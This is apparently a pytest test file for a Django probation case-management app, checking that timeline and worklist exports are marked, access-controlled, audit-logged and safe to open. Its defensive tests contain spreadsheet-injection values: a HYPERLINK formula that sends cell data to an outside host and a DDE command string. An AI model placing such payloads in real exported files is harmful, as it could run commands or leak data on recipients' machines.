"""What leaves the record as a print or a file: marked, for somebody, logged, and never more than the reader reads."""

import csv
import io
from datetime import date
from typing import Any

import pytest
from django.conf import settings
from django.db import connection
from django.http import HttpResponse
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from openmappa.accounts.models import User
from openmappa.audit.models import Event
from openmappa.cases.models import Case
from openmappa.core.access import Role
from openmappa.core.compartments import FieldClass
from openmappa.core.spreadsheets import FORMULA
from openmappa.timeline.disclosure import COLUMNS
from openmappa.worklist import disclosure
from tests.notes.build import CONFIDENTIAL, INTELLIGENCE, OPEN, VICTIM, author, browser, cast, file, note
from tests.timeline.build import ago, make_area, make_case, make_person, write
from tests.timeline.test_front_sheet import words_of

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("https://example.org?"&A1)'
FOR = {"recipient": "Caseworker One, Northshire Probation", "purpose": "Parole hearing on 3 May"}
MAY = {"line_manager", "mappa_coordinator"}


@pytest.fixture
def case() -> Case:
    return make_case()


def sent(*include: str, as_what: str = "CSV file", **more: str) -> dict[str, Any]:
    return {**FOR, "include": list(include), "as_what": as_what, **more}


def export(user: User, case: Case, form: dict[str, Any]) -> Any:
    return browser(user).post(reverse("timeline:export", kwargs={"key": case.key}), form)


def table(answer: HttpResponse) -> list[list[str]]:
    """The rows of a file that was given."""
    assert answer.status_code == 200 and answer["Content-Type"] == "text/csv; charset=utf-8"
    text = answer.content.decode("utf-8")
    assert text[0] == "\ufeff"
    return list(csv.reader(io.StringIO(text[1:], newline=""), strict=True))


def lines(rows: list[list[str]]) -> list[dict[str, str]]:
    """What stands below the heading, by its columns."""
    start = next(number for number, row in enumerate(rows) if row[:1] == ["Case"])
    return [dict(zip(rows[start], row, strict=True)) for row in rows[start + 1 : -2]]


# A case


def test_the_file_is_marked_and_says_as_at_when_by_whom_for_whom_and_why(case: Case) -> None:
    by = author()
    note(case)
    answer = export(by, case, sent("open"))
    rows = table(answer)
    assert rows[0] == rows[-1] == [settings.OPENMAPPA_MARKING]
    assert rows[1] == [f"Timeline of case {case.reference}"]
    assert rows[2][0] == "As the record stood on" and rows[2][1].count(" at ") == 1
    assert rows[3:6] == [
        ["Exported by", f"{by.full_name}, Line manager, {by.agency.name}"],
        ["For", FOR["recipient"]],
        ["Why", FOR["purpose"]],
    ]
    assert answer["Content-Disposition"] == f'attachment; filename="case-{case.reference}-timeline.csv"'
    assert answer["X-Content-Type-Options"] == "nosniff" and "no-store" in answer["Cache-Control"]
    assert answer["Content-Security-Policy"].startswith("sandbox")


def test_every_entry_says_its_basis_and_whether_it_must_not_reach_the_offender(case: Case) -> None:
    by = author()
    write(case, "significant_incident", ago(9))
    for compartment in (OPEN, CONFIDENTIAL, VICTIM, INTELLIGENCE):
        note(case, compartment, by=by, on=ago((compartment is OPEN and 2) or 1))
    file(case, CONFIDENTIAL, by=by)
    found = lines(table(export(by, case, sent("open", "confidential", "victim", "intelligence"))))
    said = {(line["Kind"], line["Basis"], line["Who may read it"], line["Grading"], bool(line["Disclosure"]))
            for line in found}  # fmt: skip
    assert said == {
        ("Fact", "Fact", "Open to those involved", "", False),
        ("Note", "Fact", "Open to those involved", "", False),
        ("Note", "Fact", "Third-party and confidential", "", True),
        ("Note", "Fact", "Victim", "", True),
        ("Note", "Intelligence", "Intelligence", "B21", True),
        ("File", "Fact", "Third-party and confidential", "", True),
    }
    assert {line["Disclosure"] for line in found} == {"", "Not to be disclosed to the offender"}
    assert {line["Name"] for line in found} == {"Sample Testcase"}


def test_only_the_chosen_parts_are_in_it_and_never_one_that_is_closed_to_the_reader(case: Case) -> None:
    by = author()
    secret = note(case, INTELLIGENCE, 5, by=make_person(Role.POLICE_OFFICER), text="Only mine")
    for compartment in (OPEN, CONFIDENTIAL, VICTIM, INTELLIGENCE):
        note(case, compartment, by=by, text=f"Kept as {compartment}")
    for include in (["open"], ["victim"], ["open", "confidential"], ["intelligence"]):
        whats = {line["What"] for line in lines(table(export(by, case, sent(*include))))}
        assert whats == {f"Kept as {each}" for each in include}, include
        assert secret.text not in whats
    officer = make_person(Role.MAPPA_COORDINATOR, kind="probation")
    assert "Kept as intelligence" not in export(officer, case, sent("open", "intelligence")).content.decode()


def test_nothing_in_the_file_can_be_run_by_a_spreadsheet(case: Case) -> None:
    by = author()
    case.person.family_name = "@SUM(A1)"
    case.person.save()
    note(case, by=by, text=EVIL), note(case, by=by, text="\u00a0+1")
    rows = table(export(by, case, sent("open", recipient="=cmd|' /C calc'!A0", purpose="-2+3")))
    assert not any(FORMULA.match(cell) for row in rows for cell in row)
    assert f"'{EVIL}" in {line["What"] for line in lines(rows)}


def test_a_role_that_does_not_read_a_class_does_not_get_its_columns(
    case: Case, monkeypatch: pytest.MonkeyPatch
) -> None:
    by = author()
    note(case, INTELLIGENCE, by=by)
    full = lines(table(export(by, case, sent("intelligence"))))
    assert list(full[0]) == [column.title for column in COLUMNS] and full[0]["Grading"] == "B21"
    monkeypatch.setattr(
        "openmappa.accounts.models.reads", lambda role, each: each not in (FieldClass.INTELLIGENCE, FieldClass.PERSONAL)
    )
    less = lines(table(export(by, case, sent("intelligence"))))
    assert {column.title for column in COLUMNS} - set(less[0]) == {"Name", "Grading", "Originating agency"}


def test_a_file_for_somebody_is_logged_as_a_disclosure_with_who_why_and_which_parts(case: Case) -> None:
    by = author()
    note(case, VICTIM, by=by, text="Not in the log")
    export(by, case, sent("victim"))
    event = Event.objects.get(verb="export case")
    assert (event.operation, event.by_id, event.case_id, event.recipient) == (
        "disclosure",
        by.pk,
        case.pk,
        FOR["recipient"],
    )
    assert {"victim", "personal"} <= set(event.classes)
    assert (event.about["why"], event.about["compartments"], event.about["entries"]) == (FOR["purpose"], ["victim"], 1)
    assert "Not in the log" not in str(event.about)


@pytest.mark.parametrize("missing", ["recipient", "purpose", "include", "as_what"])
def test_without_a_recipient_a_reason_or_a_choice_nothing_leaves(case: Case, missing: str) -> None:
    form = {name: value for name, value in sent("open").items() if name != missing}
    page = export(author(), case, form).content.decode()
    said = {
        "recipient": "Enter who will receive it",
        "purpose": "Say why they need it",
        "include": "Select what should be in it",
        "as_what": "Select how you need it",
    }
    assert page.count(said[missing]) == 2
    assert not Event.objects.filter(operation="disclosure").exists()


@pytest.mark.parametrize("role", sorted(role.value for role in Role))
def test_only_line_managers_and_coordinators_take_a_case_out(case: Case, role: str) -> None:
    person = cast(case)[role]
    secret = note(case)
    for as_what in ("CSV file", "print"):
        answer = export(person, case, sent("open", as_what=as_what))
        assert (answer.status_code == 200) is (role in MAY), (role, answer.status_code)
        assert (secret.text in answer.content.decode()) is (role in MAY)


def test_a_case_of_another_area_is_not_there(case: Case) -> None:
    stranger = make_person(Role.LINE_MANAGER, area=make_area("eastmarch", "B"))
    assert export(stranger, case, sent("open")).status_code == 404


def test_what_was_sent_waits_behind_the_proof_and_is_not_lost(case: Case) -> None:
    by = author()
    note(case, by=by, text="Only after proof")
    address = reverse("timeline:export", kwargs={"key": case.key})
    answer = browser(by, proved=False).post(address, sent("open"))
    page = answer.content.decode()
    assert "Only after proof" not in page and FOR["recipient"] in page
    assert not Event.objects.filter(operation="disclosure").exists()


# To print


def test_the_print_has_the_front_sheet_the_chosen_parts_and_who_printed_it_for_whom(case: Case) -> None:
    by = author()
    write(case, "registered", ago(30))
    note(case, by=by, text="In the open"), note(case, CONFIDENTIAL, by=by, text="In confidence")
    note(case, VICTIM, by=by, text="About a victim")
    attached = file(case, by=by)
    html = export(by, case, sent("open", "confidential", as_what="print")).content.decode()
    said = words_of(html)
    for words in (
        settings.OPENMAPPA_MARKING,
        f"Printed by {by.full_name}, Line manager",
        FOR["recipient"],
        FOR["purpose"],
        "Open to those involved; Third-party and confidential",
        "Registered indefinitely",
        "In the open",
        "In confidence",
        "Not to be disclosed to the offender",
        attached.file_name,
    ):
        assert words in said, words
    assert "About a victim" not in html
    assert reverse("timeline:file", kwargs={"key": case.key, "file": attached.key}) not in html
    assert "/void/" not in html and "/correct/" not in html
    event = Event.objects.get(verb="print case")
    assert (event.operation, event.recipient, event.about["as"]) == ("disclosure", FOR["recipient"], "print")


def test_the_form_offers_only_what_the_reader_reads_and_chooses_only_what_is_open(case: Case) -> None:
    page = browser(author()).get(reverse("timeline:export", kwargs={"key": case.key})).content.decode()
    assert page.count('name="include"') == 4 and page.count("checked") == 1


@pytest.mark.parametrize("as_what", ["CSV file", "print"])
def test_a_disclosure_asks_as_often_for_30_entries_as_for_1(case: Case, as_what: str) -> None:
    by = author()
    client = browser(by)
    address = reverse("timeline:export", kwargs={"key": case.key})

    def count() -> int:
        client.post(address, sent("open", "victim", as_what=as_what))
        with CaptureQueriesContext(connection) as queries:
            client.post(address, sent("open", "victim", as_what=as_what))
        return len(queries)

    for days in (40, 12):  # the second is news, so that somebody was told of a change
        write(case, "significant_incident", ago(days))
    note(case, by=by), file(case, VICTIM, by=by)
    few = count()
    for number in range(12):
        note(case, VICTIM, by=by, on=ago(number))
        write(case, "significant_incident", ago(number))
    file(case, by=by)
    assert count() == few


# A worklist


def worklist(user: User, query: str = "?scope=area", **more: str) -> Any:
    return browser(user).post(reverse("worklist:export") + query, {**FOR, **more})


def overdue(case: Case) -> Case:
    write(case, "registered", ago(400))
    write(case, "rm2000_completed", ago(396), band="high", rank="sergeant")
    return case


def test_a_worklist_leaves_marked_and_logged_with_every_case_on_it(case: Case) -> None:
    by = author()
    cases = {overdue(case), overdue(make_case())}
    elsewhere = make_case(make_area("eastmarch", "B"))
    write(elsewhere, "registered", ago(400), by=make_person(Role.LINE_MANAGER, area=elsewhere.area))
    rows = table(worklist(by))
    assert rows[0] == rows[-1] == [settings.OPENMAPPA_MARKING] and rows[1] == ["Worklist"]
    found = lines(rows)
    assert {line["Case"] for line in found} == {each.reference for each in cases}
    assert {line["Likelihood of reconviction"] for line in found} == {"High"}
    days = [date.fromisoformat(line["Due"]) for line in found]
    assert days == sorted(days) and "late" in found[0]["How late"]
    event = Event.objects.get(verb="export worklist")
    assert (event.operation, event.recipient) == ("disclosure", FOR["recipient"])
    assert set(event.case_ids) == {each.pk for each in cases}


def test_a_worklist_leaves_as_it_was_filtered(case: Case) -> None:
    overdue(case)
    found = lines(table(worklist(author(), "?scope=area&standard=home-visit")))
    assert {line["Duty"] for line in found} == {"Unannounced police home visit"}
    assert lines(table(worklist(author(), "?scope=area&band=low"))) == []


def test_names_in_a_worklist_cannot_be_run(case: Case) -> None:
    overdue(case).person.family_name = "Testcase"
    case.person.given_names = EVIL
    case.person.save()
    found = lines(table(worklist(author())))
    assert {line["Name"] for line in found} == {f"'{EVIL} Testcase"}


def test_a_worklist_longer_than_a_file_may_be_is_refused(case: Case, monkeypatch: pytest.MonkeyPatch) -> None:
    overdue(case)
    monkeypatch.setattr(disclosure, "MOST", 1)
    page = worklist(author()).content.decode()
    assert "more than one file may hold. Filter it first." in page
    assert not Event.objects.filter(verb="export worklist").exists()


@pytest.mark.parametrize("role", sorted(role.value for role in Role))
def test_only_line_managers_and_coordinators_take_a_worklist_out(case: Case, role: str) -> None:
    overdue(case)
    answer = worklist(cast(case)[role])
    assert answer.status_code == (200 if role in MAY else 403)
    assert (case.reference in answer.content.decode()) is (role in MAY)


def test_a_worklist_waits_for_proof_and_says_for_whom(case: Case) -> None:
    overdue(case)
    by = author()
    answer = browser(by, proved=False).post(reverse("worklist:export") + "?scope=area", FOR)
    assert case.reference not in answer.content.decode() and FOR["recipient"] in answer.content.decode()
    assert worklist(by, recipient="").content.decode().count("Enter who will receive it") == 2
    assert not Event.objects.filter(operation="disclosure").exists()
